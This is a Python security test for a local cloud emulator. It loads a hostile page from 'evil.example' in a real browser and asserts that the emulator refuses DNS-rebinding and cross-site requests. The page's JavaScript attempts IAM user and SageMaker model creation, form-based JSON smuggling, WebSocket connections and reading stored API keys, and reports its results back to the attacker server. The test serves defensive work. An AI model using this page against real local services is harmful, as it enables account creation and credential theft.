"""A web page, in a real browser, that tries to use the embedded cloud.

The page's name resolves to this machine, and its own server passes requests on to the cloud as the browser
sent them. An attacker gets the same with a DNS server that changes the address of the page's name after the
page is loaded (DNS rebinding).
"""

from __future__ import annotations

import http.client
import http.server
import json
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.browser import OPTIONS, PROGRAM
from tests.support.cloud import Aws
from tests.support.patience import HANG_SECONDS, wait_for
from toolkit.local.client import RunningCloud

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(PROGRAM is None, reason="no chromium on this machine: install it to run this test"),
]
REFUSED = "the embedded cloud refuses requests from web pages\n"

PAGE = """<!doctype html><body><script>
const CLOUD = location.search.slice(1);
const ORIGINS = ["", ...["127.0.0.1", "localhost", "evil.example"].map((host) => `http://${host}:${CLOUD}`)];
const PATHS = ["/", "/_aws/execute-api/", "/_aws/execute-api/a/b/c"];
const MODEL = JSON.stringify({
  ModelName: "evil", ExecutionRoleArn: "arn:aws:iam::123456789012:role/r", PrimaryContainer: {Image: "i"}});
const USER = "Action=CreateUser&UserName=evil&Version=2010-05-08";
const JSON_RPC = {"X-Amz-Target": "SageMaker.CreateModel", "Content-Type": "application/x-amz-json-1.1"};
const FORM = {"Content-Type": "application/x-www-form-urlencoded"};
const results = [];

async function attempt(kind, url, action) {
  let result;
  try { result = await action(); } catch (error) { result = [0, String(error)]; }
  results.push({kind, url, status: result[0], text: result[1]});
}

async function fetched(url, options) {
  const response = await fetch(url, options);
  return [response.status, await response.text()];
}

function requested(url) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => resolve([request.status, request.responseText]);
    request.open("POST", url);
    for (const [name, value] of Object.entries(JSON_RPC)) request.setRequestHeader(name, value);
    request.send(MODEL);
  });
}

function submitted(url, enctype, name, value) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + results.length;
    document.body.append(frame);
    const form = Object.assign(document.createElement("form"),
                               {action: url, method: "POST", enctype, target: frame.name});
    form.append(Object.assign(document.createElement("input"), {name, value}));
    frame.onload = () => {
      let text = "unreadable";
      try { text = frame.contentDocument.body.innerText; } catch (error) {}
      resolve([0, text]);
    };
    document.body.append(form);
    form.submit();
  });
}

function connected(url) {
  return new Promise((resolve) => {
    const socket = new WebSocket(new URL(url, location).href.replace("http", "ws"));
    socket.onopen = () => resolve([101, "open"]);
    socket.onerror = () => resolve([0, "error"]);
  });
}

(async () => {
  for (const origin of ORIGINS) {
    for (const path of PATHS) {
      const url = origin + path;
      await attempt("fetch", url, () => fetched(url, {method: "POST", headers: JSON_RPC, body: MODEL}));
      await attempt("simple", url, () => fetched(url, {method: "POST", mode: "no-cors", body: MODEL}));
      const query = {method: "POST", mode: "no-cors", headers: FORM, body: USER};
      await attempt("query", url, () => fetched(url, query));
      await attempt("XHR", url, () => requested(url));
      await attempt("WebSocket", url, () => connected(url));
      await attempt("form", url, () => submitted(url, "text/plain", MODEL.slice(0, -1) + ',"a":"', '"}'));
    }
    await attempt("user form", origin + "/", () => submitted(
      origin + "/", "application/x-www-form-urlencoded", "Action", "CreateUser"));
    for (const path of ["/_toolkit/status", "/apikeys?includeValues=true"]) {
      await attempt("read", origin + path, () => fetched(origin + path, {}));
    }
  }
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class EvilServer:
    """The server of the page; it passes what it does not serve itself to the cloud.

    Attributes:
        results: what the page reports.
        sent: names of the headers that the browser sent to the cloud, by request.
    """

    def __init__(self, cloud: RunningCloud) -> None:
        self.results: list[dict[str, Any]] = []
        self.sent: list[dict[str, str]] = []
        evil, address = self, urlsplit(cloud.endpoint_url).netloc

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/page"):
                    self.respond(200, "text/html", PAGE.encode())
                else:
                    self.rebind()

            def do_POST(self) -> None:
                if self.path == "/results":
                    evil.results = json.loads(self.rfile.read(int(self.headers["content-length"])))
                    self.respond(200, "text/plain", b"")
                else:
                    self.rebind()

            def do_OPTIONS(self) -> None:
                self.rebind()

            def rebind(self) -> None:
                headers = dict(self.headers.items())
                evil.sent.append(headers)
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                connection = http.client.HTTPConnection(address, timeout=HANG_SECONDS)
                connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
                for name, value in headers.items():
                    connection.putheader(name, value)
                connection.endheaders(body)
                response = connection.getresponse()
                self.respond(response.status, response.headers.get("content-type", ""), response.read())

            def respond(self, status: int, kind: str, body: bytes) -> None:
                self.send_response(status)
                self.send_header("content-type", kind)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def evil(cloud: RunningCloud, tmp_path: Path) -> Iterator[EvilServer]:
    """The page's server, after the browser loaded the page and the page tried everything."""
    evil = EvilServer(cloud)
    port = urlsplit(cloud.endpoint_url).port
    command = [str(PROGRAM), *OPTIONS, f"--user-data-dir={tmp_path}"]
    command += ["--host-resolver-rules=MAP evil.example 127.0.0.1"]
    with (tmp_path / "browser.log").open("wb") as log:
        browser = subprocess.Popen(
            [*command, f"http://evil.example:{evil.server.server_port}/page?{port}"], stdout=log, stderr=log
        )
    try:
        wait_for(lambda: bool(evil.results) or browser.poll() is not None, "the page's results")
        assert evil.results, (tmp_path / "browser.log").read_text()
        yield evil
    finally:
        browser.terminate()
        browser.wait(HANG_SECONDS)
        evil.server.shutdown()
        evil.server.server_close()


def test_a_web_page_gets_nothing_from_the_cloud(evil: EvilServer, aws: Aws) -> None:
    # With the page's own name as its host, as after DNS rebinding, and the cloud refused for that reason.
    rebound = [result for result in evil.results if result["url"].startswith("/")]
    kinds = {"fetch", "simple", "query", "XHR", "WebSocket", "form", "user form", "read"}
    assert {result["kind"] for result in rebound} == kinds
    assert [result for result in rebound if result["text"].strip() not in (REFUSED.strip(), "error")] == []
    assert all(headers["Host"].startswith("evil.example:") for headers in evil.sent)
    # Other origins: the browser lets the page read nothing, not even a refusal.
    foreign = [result for result in evil.results if not result["url"].startswith("/")]
    assert len(foreign) == 3 * len(rebound)
    assert [result for result in foreign if result["status"] != 0] == []
    assert [model["ModelName"] for model in aws("sagemaker").list_models(NameContains="evil")["Models"]] == []
    assert "evil" not in [user["UserName"] for user in aws("iam").list_users()["Users"]]
